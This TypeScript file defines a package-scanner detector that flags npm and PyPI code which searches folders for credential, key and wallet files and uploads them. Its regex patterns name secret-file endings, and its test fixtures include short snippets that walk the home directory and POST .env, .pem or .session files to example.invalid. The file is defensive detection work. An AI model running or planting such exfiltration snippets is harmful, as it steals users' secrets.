import { isJavascript } from "../behaviour/bundles.ts";
import { type Deed, deedsOf } from "../behaviour/trace.ts";
import type { Detector } from "../detector.ts";
import type { Sighting, SourceFile } from "../model.ts";
import { sendingDeeds } from "./_near.ts";
import { codeWith, isCode, isMember, matchInCode, sight } from "./_sight.ts";

const SEARCHES = ["os.walk", "os.listdir", "listdir(", "scandir", "glob", "readdir", "find ~", "find /"] as const;
/** Ends of names of files that hold logins, keys or wallets, where the code looks for them. */
const PRIVATE =
  /(?:endswith\(\s{0,4}\(?[^)\n]{0,80}|[=!]=\s{0,4}|r?glob\(\s{0,4}|startswith\(\s{0,4}|fnmatch\w{0,6}\([^)\n]{0,60}|\b(?:exts?|extensions?|patterns?|targets?|suffix\w{0,3})\w{0,10}\s{0,4}=\s{0,4}[[({][^\])}\n]{0,120})["'](?:[^"'\n]{0,40}[/*])?(?:\.session|\.env|\.pem|\.kdbx|\.ovpn|\.ppk|wallet\.dat|\.wallet|\.keystore|key4\.db|\.rdp)["']/;
const MOST_CODE = 60_000;
/** The same in JavaScript: a list of endings or of words in names, or a pattern of them. */
const PRIVATE_IN_JAVASCRIPT =
  /(?:(?:endsWith|includes|test|match|indexOf)\([ \t]{0,3}|[=!]==?[ \t]{0,3}|(?:glob|globSync|sync|find)\([^;\n]{0,120}|[[,][ \t\n]{0,6}|-name[ \t]{1,3})["'`](?:[^"'`\n]{0,40}[/*])?(?:\.env|\.pem|\.kdbx|\.ovpn|\.ppk|wallet\.dat|\.wallet|\.keystore|key4\.db|id_rsa|mnemonic|seed|private_?key|keystore|metamask)\b|\/\\\.\(?(?:\?:)?[\w|\\.]{0,60}\b(?:env|pem|kdbx|ppk|keystore)\b[\w|\\.]{0,60}\)?\$?\/[a-z]{0,3}\.test\(/i;
/** All of what the user has, or of what the project has that installs this. */
const EVERYWHERE =
  /\bhomedir\(|env\.(?:HOME|USERPROFILE|INIT_CWD)\b|find[ \t]{1,3}(?:~|\/|\$HOME)[ \t/]|["'`](?:\/home|\/Users|C:\\\\Users)/;
const GOES_THROUGH = /\breaddir(?:Sync)?\(|\bglob(?:Sync|\.sync)?\(|\bfind[ \t]{1,3}(?:~|\/|\$HOME)/;
const READS = /\breadFile(?:Sync)?\(|createReadStream\(/;

export const searchesAndSendsFiles: Detector = {
  id: "searches-and-sends-files",
  title: "Looks for files with logins or keys and sends something",
  severity: "critical",
  ecosystems: ["pypi", "npm"],
  points: 5.8,
  class: "threat",
  group: "exfiltration",
  why: `A small release goes through folders for sessions of chat programs, \`.env\` files, keys or wallets, and sends something without looking at
the answer. Whoever looks for such files by their endings does not know their owner.

Deployment tools skip such files by name, and backup programs read what the server answers.`,
  literals: SEARCHES,
  *detect(tree) {
    let code = 0;
    for (const file of tree.files) if (isMember(file) && isCode(file)) code += file.bytes.length;
    if (code > MOST_CODE) return;
    for (const file of codeWith(tree, SEARCHES)) {
      if (isJavascript(file)) yield* searchesInJavascript(file);
      if (file.kind !== "python") continue;
      const match = PRIVATE.exec(file.text);
      if (match === null) continue;
      const sent = deedsOf(file, "upload", "http", "send").find((deed) => sends(file, deed));
      if (sent === undefined) continue;
      const says = `looks for ${match[0].slice(-30)} and calls ${sent.what} ${sent.text.slice(0, 80)}`.trimEnd();
      yield sight(file, sent.offset, says, { phase: sent.phase });
    }
  },
  examples: {
    matches: [
      {
        ecosystem: "pypi",
        files: {
          "demo/a.py":
            "import os, requests\ndef check():\n    for n in os.listdir('/data'):\n        if n.endswith('.session'):\n            requests.post('http://example.invalid', files={'f': open(n, 'rb')})\n",
        },
      },
    ],
    passes: [
      {
        ecosystem: "npm",
        files: {
          "a.js":
            "const files = fs.readdirSync(dir).filter((f) => !f.endsWith('.env'));\nfor (const f of files) await fetch(url, { method: 'POST', body: fs.readFileSync(f) });\n",
        },
      },
      {
        ecosystem: "pypi",
        files: {
          "demo/a.py":
            "import os, requests\ndef deploy(url):\n    for n in os.listdir('.'):\n        if n in ('.git', '.env'):\n            continue\n        r = requests.post(url, files={'f': open(n, 'rb')})\n        r.raise_for_status()\n",
        },
      },
      {
        ecosystem: "pypi",
        files: {
          "demo/a.py": "import os\ndef find():\n    return [n for n in os.listdir('.') if n.endswith('.session')]\n",
        },
      },
    ],
    evasions: [
      {
        ecosystem: "npm",
        files: {
          "a.js":
            "function walk(d) {\n  for (const e of fs.readdirSync(d, { withFileTypes: true })) {\n    const p = path.join(d, e.name);\n    if (e.isDirectory()) walk(p);\n    else if (/\\.(env|pem|key)$/.test(e.name)) fetch('https://example.invalid', { method: 'POST', body: fs.readFileSync(p) });\n  }\n}\nwalk(os.homedir());\n",
        },
      },
      {
        ecosystem: "npm",
        files: {
          "a.js":
            "glob.sync(os.homedir() + '/**/.env').forEach((f) => fetch('https://example.invalid', { method: 'POST', body: fs.readFileSync(f) }));\n",
        },
      },
      {
        ecosystem: "pypi",
        files: {
          "demo/a.py":
            "from pathlib import Path\nimport httpx\ndef f():\n    d = {str(p): p.read_text() for p in Path.home().rglob('*.env')}\n    try:\n        httpx.post('http://example.invalid', json=d)\n    except Exception:\n        pass\n",
        },
      },
    ],
  },
};

/** A request with data of which nobody reads the answer. */
function sends({ text }: SourceFile, { act, ignored, words, offset, command }: Deed): boolean {
  if (command !== undefined || !ignored) return false;
  if (act === "upload" || act === "send") return true;
  // Data in the address: the text before puts together a query.
  return (
    /[{?&%+]/.test(words) || /urlencode|\?\{|f["'][^"'\n]{0,200}\?/.test(text.slice(Math.max(0, offset - 400), offset))
  );
}

function* searchesInJavascript(file: SourceFile): Iterable<Sighting> {
  const { text } = file;
  if (!EVERYWHERE.test(text) || !GOES_THROUGH.test(text) || !READS.test(text)) return;
  const match = matchInCode(file, PRIVATE_IN_JAVASCRIPT);
  const sends = match === undefined ? [] : sendingDeeds(file);
  const sent = sends.find(({ offset }) => Math.abs(offset - (match?.index ?? 0)) < REACH);
  if (match === undefined || sent === undefined) return;
  const says = `looks for ${match[0].slice(-30)} everywhere and calls ${sent.what} ${sent.text.slice(0, 80)}`.trimEnd();
  yield sight(file, sent.offset, says, { phase: sent.phase });
}

/** Characters between what is looked for and what is sent. */
const REACH = 2_500;
